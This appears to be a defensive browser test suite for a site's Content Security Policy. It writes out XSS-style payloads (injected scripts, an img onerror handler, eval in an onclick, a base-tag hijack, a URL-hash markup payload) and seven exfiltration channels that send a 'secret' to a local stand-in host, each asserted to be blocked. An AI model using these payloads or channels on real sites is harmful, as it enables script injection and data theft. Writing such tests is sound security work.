//! What a page that was tricked could not do: run what the build did not put there, or tell anybody anything.

import assert from "node:assert/strict";
import { createServer } from "node:http";
import { after, before, test } from "node:test";
import { fingerprint, open, small } from "./page.mjs";

let site;
let elsewhere;
const heard = [];
before(async () => {
  site = await open();
  elsewhere = createServer((request, response) => {
    heard.push(request.url);
    response.setHeader("access-control-allow-origin", "*");
    response.end("heard");
  });
  await new Promise((done) => elsewhere.listen(0, "127.0.0.1", done));
});
after(async () => {
  await site?.close();
  elsewhere?.close();
});

/** Tries something on the page and says which rule of its policy forbade it. */
async function forbids(page, rule, attempt, argument) {
  const broken = page.evaluate(
    () =>
      new Promise((done) => {
        document.addEventListener("securitypolicyviolation", (event) => done(event.effectiveDirective), { once: true });
        setTimeout(() => done("nothing forbade it"), 4_000);
      }),
  );
  await page.evaluate(attempt, argument).catch(() => {});
  assert.match(await broken, rule);
}

test("nothing runs that the build did not put there", async () => {
  const { page, close } = await site.visit(small());
  await fingerprint(page);
  await forbids(page, /^script-src/, () => {
    const script = document.createElement("script");
    script.textContent = "window.owned = true";
    document.head.append(script);
  });
  await forbids(page, /^script-src/, () => {
    document.body.insertAdjacentHTML("beforeend", '<img src="data:," onerror="window.owned = true">');
  });
  await forbids(page, /^script-src/, () => {
    const button = document.createElement("button");
    button.setAttribute("onclick", "eval('window.owned = true')");
    document.body.append(button);
    button.click();
  });
  await forbids(page, /^base-uri/, () => {
    const base = document.createElement("base");
    base.href = "http://127.0.0.1:1/";
    document.head.append(base);
  });
  assert.equal(await page.evaluate(() => window.owned), undefined);
  await close();
});

test("nothing can be told to another host", async () => {
  const { page, close } = await site.visit(small());
  await fingerprint(page);
  const host = `http://127.0.0.1:${elsewhere.address().port}`;
  const ways = [
    [/^connect-src/, (url) => fetch(`${url}/fetch?secret`)],
    [/^connect-src/, (url) => navigator.sendBeacon(`${url}/beacon`, "secret")],
    [/^connect-src/, (url) => new WebSocket(url.replace("http", "ws"))],
    [/^img-src/, (url) => { new Image().src = `${url}/image?secret`; }],
    [/^style-src/, (url) => {
      const link = document.createElement("link");
      link.rel = "stylesheet";
      link.href = `${url}/style?secret`;
      document.head.append(link);
    }],
    [/^(frame|child|default)-src/, (url) => {
      const frame = document.createElement("iframe");
      frame.src = `${url}/frame?secret`;
      document.body.append(frame);
    }],
    [/^form-action/, (url) => {
      const form = document.createElement("form");
      form.action = `${url}/form`;
      document.body.append(form);
      form.submit();
    }],
  ];
  for (const [rule, attempt] of ways) await forbids(page, rule, attempt, host);
  assert.deepEqual(heard, []);
  await close();
});

test("a link's own words are never markup", async () => {
  const { page, close } = await site.visit("#p=seed-status-quo&n=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E");
  await page.waitForSelector("h1");
  assert.equal(await page.locator("img[src=x]").count(), 0);
  await close();
});
